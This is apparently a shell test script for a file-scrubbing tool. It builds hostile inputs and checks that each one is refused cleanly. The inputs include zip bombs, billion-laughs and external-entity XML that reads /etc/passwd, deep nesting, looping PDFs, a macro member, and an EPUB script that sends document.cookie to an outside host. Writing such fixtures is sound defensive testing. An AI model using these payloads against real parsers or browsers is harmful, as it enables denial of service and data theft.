#!/bin/sh
# scrub_hostile.sh - bad input to `samizdat scrub` and `inspect`: damaged
# and truncated files of every type, zip bombs, PDF reference loops,
# images claiming huge sizes, lying extensions; billion laughs, external
# entities and deep nesting in XML; DRM, scripts and passwords.  Each ends
# with a clear message and exit status 1 (damaged, over a limit) or 3
# (unsupported), never with output left behind, and memory stays bounded.
CORPUS_SH=$(cd "$(dirname "$0")/../docs" && pwd)/corpus.sh
. "$(dirname "$0")/tap.sh"
S=$SAMIZDAT

# status CMD... - prints the exit status of CMD (output to .msg)
status() { "$@" >.msg 2>&1; echo $?; }

"$CORPUS_SH" orig >corpus.log 2>&1 || { cat corpus.log; exit 1; }

# Truncated: the first half of each file.  Formats that are a plain run
# of frames (MP3, FLAC) or of text stay acceptable when cut at a frame;
# everything with structure must be refused.
for f in photo.jpg image.png anim.gif scan.tif picture.webp report.pdf \
	letter.docx budget.xlsx deck.pptx memo.odt accounts.ods talk.odp \
	chart.odg formula.odf book.epub \
	song.ogg voice.opus song.mp3; do
	size=$(stat -c %s "orig/$f")
	head -c $((size / 2)) "orig/$f" >"cut-$f"
	st=$(status "$S" scrub -o "out-$f" "cut-$f")
	check "a truncated $f is refused with exit status 1" test "$st" = 1
	check "...with a message naming the file" grep -q "cut-$f" .msg
	check "...and no output file" test ! -e "out-$f"
done

# Corrupted: bytes flipped in the middle.
for f in photo.jpg image.png report.pdf letter.docx song.ogg; do
	cp "orig/$f" "bad-$f"
	size=$(stat -c %s "bad-$f")
	printf '\377\000\377\000\377\000\377\000' |
		dd of="bad-$f" bs=1 seek=$((size / 2)) conv=notrunc 2>/dev/null
	st=$(status "$S" scrub -o "out-bad-$f" "bad-$f")
	check "a corrupted $f is refused or scrubbed, never crashes ($st)" \
		sh -c "test $st = 0 || test $st = 1"
done

# Lying extensions: the content decides.
cp orig/photo.jpg photo.pdf
check "a JPEG named .pdf is scrubbed as a JPEG" \
	sh -c "'$S' scrub -o out-photo.pdf photo.pdf | grep -q 'jpeg'"
check "...and the result is a JPEG without the planted values" \
	sh -c "file out-photo.pdf | grep -q JPEG && ! grep -aq PLANTED out-photo.pdf"
head -c 20000 /dev/urandom >random.docx
check "random bytes named .docx are refused as unsupported (exit 3)" \
	test "$(status "$S" scrub random.docx)" = 3
check "...with a message that names the supported types" \
	grep -q "JPEG, PNG" .msg
check "...and nothing is written" test ! -e random.cleaned.docx
printf '#!/bin/sh\necho hi\n' >script.sh
check "a shell script is plain text: scrubbed as it is" \
	sh -c "'$S' scrub -q -o out-script.sh script.sh && cmp script.sh out-script.sh"
check "inspect of an unsupported file exits 3" \
	test "$(status "$S" inspect random.docx)" = 3

# Zip bombs and zip limits (python's zipfile is the producer).
python3 - <<'EOF'
import zipfile
ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
      'package/2006/content-types"><Override PartName="/word/document.xml" '
      'ContentType="application/vnd.openxmlformats-officedocument.'
      'wordprocessingml.document.main+xml"/></Types>')
with zipfile.ZipFile('bomb.docx', 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('[Content_Types].xml', ct)
    z.writestr('word/document.xml', '<w:document xmlns:w="x">' + ' ' * (200 << 20) + '</w:document>')
with zipfile.ZipFile('many.docx', 'w', zipfile.ZIP_STORED) as z:
    z.writestr('[Content_Types].xml', ct)
    for i in range(12000):
        z.writestr('word/media/m%d.emf' % i, '')
with zipfile.ZipFile('macro.docx', 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('[Content_Types].xml', ct)
    z.writestr('word/document.xml', '<w:document xmlns:w="x"/>')
    z.writestr('word/vbaProject.bin', 'Sub AutoOpen()')
EOF
st=$(status "$S" scrub bomb.docx)
check "a zip bomb (200 MiB of XML in 200 KiB) is refused with exit 1" test "$st" = 1
check "...saying it expands too much" grep -q "expands\|larger than" .msg
check "a zip with 12000 entries is refused" \
	test "$(status "$S" scrub many.docx)" = 1
check "...saying why" grep -q "more than 10000 entries" .msg
check "a document with macros is refused (unknown member)" \
	test "$(status "$S" scrub macro.docx)" = 3
check "...naming the member" grep -q vbaProject.bin .msg
check "...and nothing is written" test ! -e macro.cleaned.docx
check "--allow-unknown copies the member instead" \
	sh -c "'$S' scrub --allow-unknown -o allowed.docx macro.docx | grep -q 'unknown member copied'"

# Office, OpenDocument and EPUB files as attackers and broken tools write
# them (python's zipfile is the producer).
python3 - <<'EOF'
import zipfile

def book(name, chapter=None, extra=(), container=True):
    """An EPUB with one chapter; extra members as (name, data)."""
    opf = ('<?xml version="1.0" encoding="UTF-8"?><package xmlns="http://www.idpf.org/2007/opf" '
           'version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
           '<dc:identifier id="id">urn:uuid:0f8fad5b-d9cb-469f-a165-70867728950e</dc:identifier>'
           '<dc:title>T</dc:title><dc:language>en</dc:language></metadata><manifest>'
           '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
           '<spine><itemref idref="c"/></spine></package>')
    with zipfile.ZipFile(name, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo('mimetype'), 'application/epub+zip', zipfile.ZIP_STORED)
        if container:
            z.writestr('META-INF/container.xml',
                '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
                '<rootfiles><rootfile full-path="content.opf" media-type="application/oebps-package+xml"/>'
                '</rootfiles></container>')
        z.writestr('content.opf', opf)
        z.writestr('c.xhtml', chapter or
            '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title></head>'
            '<body><p>text</p></body></html>')
        for n, d in extra:
            z.writestr(n, d)

lol = ''.join('<!ENTITY l%d "%s">' % (i, ('&l%d;' % (i - 1)) * 10 if i else 'lol') for i in range(10))
book('laughs.epub', '<?xml version="1.0"?><!DOCTYPE html [%s]><html xmlns="http://www.w3.org/1999/xhtml">'
     '<head><title>c</title></head><body><p>&l9;</p></body></html>' % lol)
book('xxe.epub', '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">'
     '<!ENTITY y SYSTEM "http://127.0.0.1:9/leak">]><html xmlns="http://www.w3.org/1999/xhtml">'
     '<head><title>c</title></head><body><p>&x;&y;</p></body></html>')
book('deep.epub', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>'
     '</head><body>' + '<div>' * 100000 + '</div>' * 100000 + '</body></html>')
book('bomb.epub', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>'
     '</head><body><p>' + ' ' * (200 << 20) + '</p></body></html>')
book('drm.epub', extra=[('META-INF/encryption.xml',
     '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
     'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod '
     'Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><enc:CipherData><enc:CipherReference '
     'URI="c.xhtml"/></enc:CipherData></enc:EncryptedData></encryption>')])
book('script.epub', extra=[('script.js', 'fetch("https://example.org/" + document.cookie)')])
book('nocontainer.epub', container=False)
book('plain.epub')

ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
      'wordprocessingml.document.main+xml"/></Types>')
with zipfile.ZipFile('laughs.docx', 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('[Content_Types].xml', ct)
    z.writestr('word/document.xml', '<?xml version="1.0"?><!DOCTYPE w:document [%s]><w:document '
               'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
               '<w:t>&l9;</w:t></w:r></w:p></w:body></w:document>' % lol)

with zipfile.ZipFile('orig/letter.docx') as s, zipfile.ZipFile('noct.docx', 'w') as d:
    for i in s.infolist():
        if i.filename != '[Content_Types].xml':
            d.writestr(i, s.read(i.filename))

# A password-protected OpenDocument file: its parts are encrypted, and the
# manifest says how.
with zipfile.ZipFile('orig/memo.odt') as s, zipfile.ZipFile('locked.odt', 'w') as d:
    for i in s.infolist():
        data = s.read(i.filename)
        if i.filename == 'META-INF/manifest.xml':
            data = data.replace(b'manifest:full-path="content.xml" manifest:media-type="text/xml"/>',
                b'manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data '
                b'manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"><manifest:algorithm '
                b'manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
                b'</manifest:encryption-data></manifest:file-entry>')
        if i.filename == 'content.xml':
            data = bytes(b ^ 0x5a for b in data)
        d.writestr(i, data)
EOF
# Work that grows with the square of the input: every paragraph mark
# deleted (each joins the next), 200 000 references to dropped parts, a
# reading order naming one chapter 100 000 times.
python3 - <<'EOF'
import zipfile
W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
      'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
def docx(name, body, extra=()):
    with zipfile.ZipFile(name, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('[Content_Types].xml', ct)
        z.writestr('word/document.xml', '<?xml version="1.0"?><w:document xmlns:w="%s" xmlns:r="%s">'
                   '<w:body>%s</w:body></w:document>' % (W, R, body))
        for n, d in extra:
            z.writestr(n, d)
docx('joins.docx', ''.join('<w:p><w:pPr><w:rPr><w:del w:id="%d" w:author="X"/></w:rPr></w:pPr>'
     '<w:r><w:t>p%d </w:t></w:r></w:p>' % (i, i) for i in range(200000)) +
     '<w:p><w:r><w:t>end</w:t></w:r></w:p>')
docx('refs.docx', ''.join('<w:p><w:r r:id="rIdC%d"><w:t>x</w:t></w:r></w:p>' % (i % 20000)
     for i in range(200000)),
     [('word/_rels/document.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
       'openxmlformats.org/package/2006/relationships">' + ''.join('<Relationship Id="rIdC%d" '
       'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" '
       'Target="comments.xml"/>' % i for i in range(20000)) + '</Relationships>'),
      ('word/comments.xml', '<w:comments xmlns:w="%s"/>' % W)])
opf = ('<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" '
       'unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier '
       'id="id">x</dc:identifier><dc:title>T</dc:title><dc:language>en</dc:language></metadata>'
       '<manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine>' +
       '<itemref idref="c"/>' * 100000 + '</spine></package>')
with zipfile.ZipFile('spine.epub', 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr(zipfile.ZipInfo('mimetype'), 'application/epub+zip', zipfile.ZIP_STORED)
    z.writestr('META-INF/container.xml', '<?xml version="1.0"?><container version="1.0" '
               'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
               'full-path="content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>')
    z.writestr('content.opf', opf)
    z.writestr('c.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title></head>'
               '<body>' + '<p/>' * 5000 + '</body></html>')
EOF
st=$(status timeout 120 "$S" scrub -q -o out-joins.docx joins.docx)
check "200 000 deleted paragraph marks join in one pass, not a hang ($st)" test "$st" = 0
check "...into one paragraph with all their text" sh -c \
	"test \"\$(unzip -p out-joins.docx word/document.xml | grep -o '<w:p>' | wc -l)\" = 1 && \
	 unzip -p out-joins.docx word/document.xml | grep -q 'p199999 '"
st=$(status timeout 120 "$S" scrub -q -o out-refs.docx refs.docx)
check "200 000 references to 20 000 dropped relationships are removed, not a hang ($st)" \
	sh -c "test $st = 0 && ! unzip -p out-refs.docx word/document.xml | grep -q 'r:id='"
st=$(status timeout 120 "$S" extract spine.epub)
check "a reading order naming one chapter 100 000 times stops at a limit or ends ($st)" \
	sh -c "test $st = 0 || test $st = 1"
st=$(status "$S" scrub -o out-noct.docx noct.docx)
check "a DOCX without [Content_Types].xml is refused with exit 1" test "$st" = 1
check "...saying exactly that" grep -q 'has no \[Content_Types\].xml' .msg
check "...and nothing is written" test ! -e out-noct.docx
for f in laughs.epub laughs.docx; do
	st=$(status timeout 60 "$S" scrub -o "out-$f" "$f")
	check "a billion laughs in $f is refused with exit 1, not a hang ($st)" test "$st" = 1
	check "...with a message naming what it found" \
		grep -q 'expand without end\|declares a DTD' .msg
done
st=$(status timeout 60 "$S" scrub -o out-xxe.epub xxe.epub)
check "external entities in an EPUB (a file, a web address) are refused with exit 1 ($st)" \
	test "$st" = 1
check "...saying why" grep -q 'external entity' .msg
check "...and nothing is written" test ! -e out-xxe.epub
st=$(status timeout 60 "$S" scrub -o out-deep.epub deep.epub)
check "100 000 nested elements in an EPUB are refused with exit 1 ($st)" test "$st" = 1
"$S" scrub -q -o out-plain.epub plain.epub >/dev/null 2>&1
/usr/bin/time -q -f %M -o rss-plain "$S" scrub -q -o out-plain.epub plain.epub >/dev/null 2>&1
/usr/bin/time -q -f %M -o rss-bomb "$S" scrub -o out-bomb.epub bomb.epub >.msg 2>&1
st=$?
check "an EPUB zip bomb (200 MiB of XHTML) is refused with exit 1 ($st)" test "$st" = 1
check "...saying it expands too much" grep -q "expands\|larger than" .msg
check "...in at most 32 MiB more memory than a one-page book ($(cat rss-plain) -> $(cat rss-bomb) KiB)" \
	test "$(cat rss-bomb)" -lt $(($(cat rss-plain) + 32768))
st=$(status "$S" scrub -o out-drm.epub drm.epub)
check "an EPUB with DRM is refused as unsupported (exit 3)" test "$st" = 3
check "...saying it is DRM" grep -q DRM .msg
check "an EPUB with a script is refused (exit 3)" \
	test "$(status "$S" scrub -o out-script.epub script.epub)" = 3
check "...naming the member" grep -q script.js .msg
check "an EPUB without META-INF/container.xml is refused (exit 1)" \
	test "$(status "$S" scrub -o out-nc.epub nocontainer.epub)" = 1
check "...naming what is missing" grep -q container.xml .msg
check "a password-protected ODT is refused as unsupported (exit 3)" \
	test "$(status "$S" scrub -o out-locked.odt locked.odt)" = 3
check "...saying to save it without a password first" grep -q password .msg

# PDFs: a page tree that loops, a huge claimed object count.
python3 - <<'EOF'
def pdf(name, objs, size=None):
    out = b'%PDF-1.4\n'
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b'%d 0 obj\n%s\nendobj\n' % (i, o)
    x = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(objs) + 1)
    for o in offs:
        out += b'%010d 00000 n \n' % o
    out += b'trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n' % (
        size or len(objs) + 1, x)
    open(name, 'wb').write(out)
pdf('loop.pdf', [b'<< /Type /Catalog /Pages 2 0 R >>',
                 b'<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
                 b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Kids [3 0 R] >>'])
pdf('huge.pdf', [b'<< /Type /Catalog /Pages 2 0 R >>',
                 b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
                 b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>'],
    size=2000000000)
# a chain of 300000 nested arrays: deep, not wide
deep = b'[' * 300000 + b']' * 300000
pdf('deep.pdf', [b'<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>',
                 b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
                 b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>',
                 deep])
EOF
for f in loop.pdf huge.pdf deep.pdf; do
	st=$(status timeout 60 "$S" scrub -o "out-$f" "$f")
	check "$f ends with exit 0 or 1, not a crash or a hang ($st)" \
		sh -c "test $st = 0 || test $st = 1"
	if [ "$st" = 0 ]; then
		check "...and what it wrote passes qpdf --check" qpdf --check "out-$f"
	else
		check "...with a message" test -s .msg
	fi
done

# An image that claims 2^31-1 x 2^31-1 pixels: we never decode, so it
# scrubs in constant memory and keeps its claim.
python3 - <<'EOF'
import struct, zlib
def chunk(t, d):
    return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d))
ihdr = struct.pack('>IIBBBBB', 2**31 - 1, 2**31 - 1, 8, 2, 0, 0, 0)
open('huge.png', 'wb').write(b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', ihdr) +
    chunk(b'tEXt', b'Author\0PLANTED') + chunk(b'IDAT', zlib.compress(b'\0' * 64)) +
    chunk(b'IEND', b''))
EOF
check "a PNG claiming 2^31-1 pixels a side is scrubbed without decoding" \
	sh -c "'$S' scrub -q -o out-huge.png huge.png && ! grep -aq PLANTED out-huge.png"

# Memory stays bounded: 100 MiB of MP3 frames through the scrubber.
"$S" scrub -q -o frames.mp3 orig/song.mp3
i=0; while [ $i -lt 12 ]; do cat frames.mp3 frames.mp3 frames.mp3 >>big.mp3; i=$((i + 1)); done
while [ "$(stat -c %s big.mp3)" -lt 100000000 ]; do cat big.mp3 big.mp3 >big2.mp3; mv big2.mp3 big.mp3; done
/usr/bin/time -f %M -o rss-small "$S" scrub -q -o small-out.mp3 frames.mp3
/usr/bin/time -f %M -o rss "$S" scrub -q -o big-out.mp3 big.mp3
check "a $(($(stat -c %s big.mp3) >> 20)) MiB MP3 takes at most 8 MiB more memory than a small one ($(cat rss-small) -> $(cat rss) KiB)" \
	test "$(cat rss)" -lt $(($(cat rss-small) + 8192))
check "...and its audio frames are copied exactly" cmp big.mp3 big-out.mp3
finish
